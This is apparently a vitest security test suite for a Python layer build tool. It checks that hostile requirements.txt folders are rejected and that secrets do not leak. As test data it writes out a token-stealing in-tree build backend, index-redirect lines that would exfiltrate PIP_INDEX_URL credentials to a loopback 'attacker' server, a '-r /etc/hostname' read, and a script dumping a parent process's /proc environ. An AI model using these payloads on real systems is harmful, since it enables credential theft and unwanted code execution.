/**
 * A hostile build folder against the local builder, with the real uv against PyPI: a requirement that
 * needs a build step fails the target (BuildError, exit 1) naming the line, and the in-tree build backend
 * that would write a canary never runs; a line that changes where packages come from or reads a host file
 * is refused (ConfigError, exit 2) naming the line, and a loopback "attacker" server sees no request.
 * The same attacks then run through the bundled CLI (`node dist/layer-sync.mjs sync … --out DIR`).
 */
import { spawn } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildTarget } from "../../lib/builds/content.ts";
import { LocalBuilder } from "../../lib/builds/local.ts";
import { walkDirectory } from "../../lib/builds/tree.ts";
import { type BuildPlan, planBuild } from "../../lib/common/build-plan.ts";
import { BuildError, ConfigError } from "../../lib/common/errors.ts";
import { type GitHubEmulator, startGitHubEmulator } from "../emulators/github.ts";
import { FixtureRepo } from "../fixtures/repo.ts";
import { localFolderBuilds, TOOL_CACHE } from "../support/local-folder-build.ts";

const ROOT = resolve(import.meta.dirname, "../..");
const TIMEOUT = 120_000;
const TOKEN = "idx-s3cr3t-token";
const SOURCE_TOKEN = "ghp_sourcecanary0123456789";
const AWS_SECRET = "awssecretcanary0123456789";

let work: string;
let canary: string;
let attacker: Server;
let port: number;
const seen: string[] = [];

/** An in-tree PEP 517 backend that writes the canary as soon as anything imports it. */
function evilBackend(): Record<string, string> {
  return {
    "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
    "backend.py": `import os\nopen(${JSON.stringify(canary)}, "w").write(os.environ.get("SOURCE_TOKEN", "ran"))\ndef build_wheel(*a, **k): raise SystemExit(1)\nbuild_sdist = build_editable = build_wheel\n`,
  };
}

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), "layer-sync-attacks-"));
  canary = join(work, "canary");
  attacker = createServer((req, res) => {
    seen.push(`${req.method} ${req.url}`);
    res.writeHead(404).end();
  });
  await new Promise<void>((r) => attacker.listen(0, "127.0.0.1", r));
  port = (attacker.address() as AddressInfo).port;
});
afterAll(async () => {
  await new Promise((r) => attacker.close(r));
  await rm(work, { recursive: true, force: true });
});

const build = localFolderBuilds(() => work);

function buildFolder(requirements: string, extra: Record<string, string> = {}) {
  return build({
    name: "hostile",
    files: { "requirements.txt": requirements, ...extra },
    architectures: [],
    builder: {
      env: { ...process.env, PIP_INDEX_URL: `https://user:${TOKEN}@example.com/simple` },
      timeoutMs: TIMEOUT,
      index: { pipIndexUrl: "https://pypi.org/simple", token: TOKEN },
    },
  }).catch((e: unknown) => e);
}

describe("the local builder given a hostile folder", () => {
  it.each([
    ["six==1.17.0\n./evilpkg\n", 2, '"./evilpkg" is a local path'],
    ["--no-binary :all:\ndocopt==0.6.2\n", 1, '"--no-binary :all:" is --no-binary'],
    ["# editable\n-e ./evilpkg\n", 2, '"-e ./evilpkg" is an editable requirement'],
    ["six==1.17.0\ngit+file:///srv/repo.git#egg=evil\n", 2, '"git+file:///srv/repo.git#egg=evil" is a VCS requirement'],
  ])("%j fails the target naming the line, and no backend runs", { timeout: TIMEOUT }, async (text, line, what) => {
    const backend = evilBackend();
    const error = await buildFolder(
      text,
      Object.fromEntries(Object.entries(backend).map(([k, v]) => [`evilpkg/${k}`, v])),
    );
    expect(error).toBeInstanceOf(BuildError);
    const message = (error as Error).message;
    expect(message).toContain(`layers/hostile/requirements.txt line ${line}: ${what}`);
    expect(message).toContain("--builder docker");
    expect(message).not.toMatch(/\n/);
    expect(existsSync(canary)).toBe(false);
  });

  it("refuses `-e .` over an in-tree backend at the folder root before any tool runs: a pyproject.toml without its lock", async () => {
    const error = await buildFolder("-e .\n", evilBackend()).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ConfigError);
    expect((error as Error).message).toContain("pyproject.toml but no lock file; run `uv lock`");
    expect(existsSync(canary)).toBe(false);
  });

  it.each([
    () => `--extra-index-url http://127.0.0.1:${port}/leak/\${PIP_INDEX_URL}/`,
    () => `--extra-index-url http://127.0.0.1:${port}/leak/`,
    () => `-i http://127.0.0.1:${port}/simple`,
    () => `-f http://127.0.0.1:${port}/links/`,
    () => "--trusted-host 127.0.0.1",
    () => "-r /etc/hostname",
  ])("%s is refused naming the line, and the attacker sees nothing", { timeout: TIMEOUT }, async (line) => {
    const text = `six==1.17.0\n${line()}\n`;
    const error = await buildFolder(text);
    expect(error).toBeInstanceOf(ConfigError);
    const message = (error as Error).message;
    expect(message).toContain(`layers/hostile/requirements.txt line 2: ${JSON.stringify(line())}`);
    expect(message).not.toContain(TOKEN);
    if (existsSync("/etc/hostname")) {
      const host = (await readFile("/etc/hostname", "utf8")).trim();
      if (host.length > 3) expect(message.replace(line(), "")).not.toContain(host);
    }
    expect(seen).toEqual([]);
  });
});

describe("the local builder with a private index", () => {
  it("hands the credential to uv only in its environment and never names it in a message", {
    timeout: TIMEOUT,
  }, async () => {
    const auth: string[] = [];
    const index = createServer((req, res) => {
      auth.push(req.headers.authorization ?? "");
      res.writeHead(404).end();
    });
    await new Promise<void>((r) => index.listen(0, "127.0.0.1", r));
    try {
      const dir = join(work, "private");
      await mkdir(dir, { recursive: true });
      await writeFile(join(dir, "requirements.txt"), "six==1.17.0\n");
      const entries = await walkDirectory(dir, "private");
      const plan = planBuild({
        folder: "layers/private",
        name: "private",
        layerNamePrefix: "",
        files: entries.map((f) => f.path),
        defaults: { runtimes: ["python3.12"], architectures: [] },
      }) as BuildPlan;
      await mkdir(join(work, "home-private"), { recursive: true });
      const builder = new LocalBuilder({
        env: process.env,
        home: join(work, "home-private"),
        toolCache: TOOL_CACHE,
        timeoutMs: TIMEOUT,
        index: { pipIndexUrl: `http://127.0.0.1:${(index.address() as AddressInfo).port}/simple/`, token: TOKEN },
      });
      const [target] = plan.targets;
      if (!target) throw new Error("no target");
      const out = join(work, "run-private");
      const error = await buildTarget({
        plan,
        target,
        files: entries,
        builder,
        workDir: out,
        zipFile: `${out}.zip`,
      }).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(BuildError);
      expect((error as Error).message).toContain('requirement "six==1.17.0" has no wheel');
      expect((error as Error).message).toContain(`(index http://127.0.0.1:`);
      expect((error as Error).message).not.toContain(TOKEN);
      expect(auth).toContain(`Basic ${Buffer.from(`aws:${TOKEN}`).toString("base64")}`);
    } finally {
      await new Promise((r) => index.close(r));
    }
  });
});

describe("layer-sync sync --builder local given a hostile repository", () => {
  let gh: GitHubEmulator;
  beforeAll(async () => {
    const repo = new FixtureRepo("acme", "hostile");
    const f = (text: string) => ({ kind: "file" as const, content: Buffer.from(text) });
    const backend = evilBackend();
    repo.commit(
      "main",
      {
        "layers/leak/requirements.txt": f(
          `six==1.17.0\n--extra-index-url http://127.0.0.1:${port}/leak/\${PIP_INDEX_URL}/\n`,
        ),
        "layers/evil/requirements.txt": f("six==1.17.0\n./evilpkg\n"),
        "layers/spy/requirements.txt": f("six==1.17.0\n"),
        "layers/evil/evilpkg/pyproject.toml": f(backend["pyproject.toml"] ?? ""),
        "layers/evil/evilpkg/backend.py": f(backend["backend.py"] ?? ""),
      },
      "hostile folders",
    );
    gh = await startGitHubEmulator({ repos: [repo], publicRepos: true, tokens: [SOURCE_TOKEN] });
  });
  afterAll(async () => {
    await gh.close();
  });

  function cli(
    path: string,
    extra: Record<string, string> = {},
  ): Promise<{ code: number | null; stdout: string; stderr: string }> {
    const env = {
      PATH: process.env.PATH ?? "",
      NODE_EXTRA_CA_CERTS: process.env.NODE_EXTRA_CA_CERTS ?? "",
      SSL_CERT_FILE: process.env.SSL_CERT_FILE ?? "",
      XDG_CACHE_HOME: join(ROOT, ".cache"),
      BUILD_PIP_INDEX_URL: "https://pypi.org/simple",
      PIP_INDEX_URL: `https://user:${TOKEN}@example.com/simple`,
      ...extra,
    };
    const args = ["sync", "--provider", "github", "--repository", "acme/hostile", "--api-url", gh.apiUrl];
    args.push("--path", path, "--builder", "local", "--json", "--out", join(work, "out"));
    args.push("--work-dir", join(work, "cli-work"));
    return new Promise((done, fail) => {
      const child = spawn(process.execPath, [join(ROOT, "dist/layer-sync.mjs"), ...args], { cwd: work, env });
      let stdout = "";
      let stderr = "";
      child.stdout.on("data", (c: Buffer) => {
        stdout += c.toString();
      });
      child.stderr.on("data", (c: Buffer) => {
        stderr += c.toString();
      });
      child.on("error", fail);
      child.on("close", (code) => done({ code, stdout, stderr }));
    });
  }

  it("exits 2 on an index option with a variable, naming the line, and sends nothing", {
    timeout: TIMEOUT,
  }, async () => {
    const r = await cli("layers/leak");
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(
      /layers\/leak\/requirements\.txt line 2: "--extra-index-url http:\/\/127\.0\.0\.1:\d+\/leak\//,
    );
    expect(r.stderr).not.toContain(TOKEN);
    const summary = JSON.parse(r.stdout) as { packages: { name: string; error?: string; errorKind?: string }[] };
    expect(summary.packages).toEqual([
      expect.objectContaining({ name: "leak", errorKind: "configuration", error: expect.stringContaining("line 2") }),
    ]);
    expect(seen).toEqual([]);
  });

  it("exits 1 on a local package path, naming the line, and its backend never runs", { timeout: TIMEOUT }, async () => {
    const r = await cli("layers/evil");
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('layers/evil/requirements.txt line 2: "./evilpkg" is a local path');
    expect(r.stderr).toContain("--builder docker");
    expect(existsSync(canary)).toBe(false);
    expect(seen).toEqual([]);
  });

  it("keeps SOURCE_TOKEN and the AWS secret out of /proc/<pid>/environ of the CLI before any child starts", {
    timeout: TIMEOUT,
  }, async () => {
    // a stand-in for the pinned uv, in a tool cache of its own: it reads its parent's environment as any
    // child of the same user can, and installs nothing
    const cache = join(work, "spy-cache");
    const uv = join(cache, "layer-sync", "uv-0.13.9", "uv");
    const seenEnviron = join(work, "parent-environ");
    await mkdir(join(uv, ".."), { recursive: true });
    await writeFile(
      uv,
      `#!/bin/sh\nif [ "$1" = --version ]; then echo "uv 0.13.9"; exit 0; fi\ntr '\\0' '\\n' < /proc/$PPID/environ > ${JSON.stringify(seenEnviron)}\nexit 0\n`,
      { mode: 0o755 },
    );
    const r = await cli("layers/spy", {
      XDG_CACHE_HOME: cache,
      SOURCE_TOKEN,
      AWS_ACCESS_KEY_ID: "AKIACANARY",
      AWS_SECRET_ACCESS_KEY: AWS_SECRET,
    });
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const environ = await readFile(seenEnviron, "utf8");
    expect(environ).toContain("XDG_CACHE_HOME=");
    expect(environ).not.toContain(SOURCE_TOKEN);
    expect(environ).not.toContain(AWS_SECRET);
  });
});
